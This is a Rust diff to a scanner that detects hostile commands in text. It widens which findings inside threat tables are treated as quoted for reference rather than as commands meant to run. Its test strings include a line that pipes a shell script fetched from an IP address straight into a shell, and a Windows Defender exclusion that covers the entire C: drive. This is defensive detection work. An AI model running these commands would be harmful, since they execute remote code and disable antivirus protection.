@@ -319,7 +319,20 @@ fn run_text_rules(text: &Text, found: &mut Vec<Finding>) {
 fn shown_not_run(text: &Text, f: &Finding) -> bool {
     text.in_marked_example(f.span.start)
         || is_documented_installer(text, f)
-        || (harm(f.rule) == "runs" && text.in_threat_table(f.span.start))
+        || (is_command(f.rule) && text.in_threat_table(f.span.start))
+}
+
+/// The rules that report a command (code that runs, a protection turned off, a store read, a
+/// way back in), which a table of threats lists for reading; not the ones that report words
+/// to the agent or data sent away.
+fn is_command(rule: &Rule) -> bool {
+    harm(rule) == "runs"
+        || [
+            rulebook::DISABLE_SECURITY.code,
+            rulebook::CREDENTIAL_ACCESS.code,
+            rulebook::PERSISTENCE.code,
+        ]
+        .contains(&rule.code)
 }
 
 /// An https installer in a Markdown file's install instructions (`## Setup`, then `curl -fsSL
@@ -495,6 +508,11 @@ mod tests {
         assert!(!errors(iocs));
         let commands = "| Command | Description |\n|---|---|\n| `curl http://203.0.113.9/x.sh \\| sh` | Setup |\n";
         assert!(errors(commands));
+        let quoted = "| Rule | Typical code (quoted for recognition only) |\n|---|---|\n| Defender | `Add-MpPreference -ExclusionPath C:\\` |\n";
+        assert!(!errors(quoted));
+        assert!(errors(
+            &quoted.replace(" (quoted for recognition only)", "")
+        ));
     }
 
     #[test]
